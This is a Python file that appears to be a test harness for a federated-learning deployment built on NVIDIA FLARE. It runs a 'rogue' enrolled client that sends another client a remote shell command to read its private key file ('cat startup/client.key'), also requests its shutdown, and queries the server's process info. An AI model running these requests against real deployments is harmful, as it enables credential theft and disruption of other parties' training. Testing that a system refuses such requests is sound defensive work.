"""An enrolled client that asks another client, and the server, for what it must not get.

It runs in a thread of the engine's own process, with the client's own connection.
"""

import gc
import json
import os
import pathlib
import sys
import threading
import time

ORDER = 'FEDJAX_MEM_ROGUE'  # names a folder: `go` starts it, `answers.json` holds what it got


def start():
  """Starts the thread, in the engine's first process."""
  if 'fedjax_mem.deploy.parent' in sys.orig_argv:
    folder = pathlib.Path(os.environ[ORDER])
    threading.Thread(target=_run, args=(folder,), daemon=True).start()


def _run(folder):
  while not (folder / 'go').exists():
    time.sleep(0.1)
  from nvflare.fuel.f3.cellnet.cell import Cell
  from nvflare.private.admin_defs import Message
  from nvflare.private.defs import new_cell_message

  cell = next(x for x in gc.get_objects() if isinstance(x, Cell))
  victim, answers = (folder / 'go').read_text(), []

  def ask(target, channel, topic, body):
    reply = cell.send_request(
      channel=channel,
      topic=topic,
      target=target,
      request=new_cell_message({}, body),
      timeout=2,
    )
    payload = getattr(reply.payload, 'body', reply.payload)
    answers.append([target, topic, None if payload is None else str(payload)])

  ask(victim, 'admin', 'sys.shell', Message('sys.shell', 'cat startup/client.key'))
  ask(victim, 'admin', 'train.check_status', Message('train.check_status', ''))
  ask(victim, 'admin', 'train.shutdown', Message('train.shutdown', ''))
  ask('server', '_net_manager', 'process_info', {})
  (folder / 'answers.tmp').write_text(json.dumps(answers))
  os.replace(folder / 'answers.tmp', folder / 'answers.json')
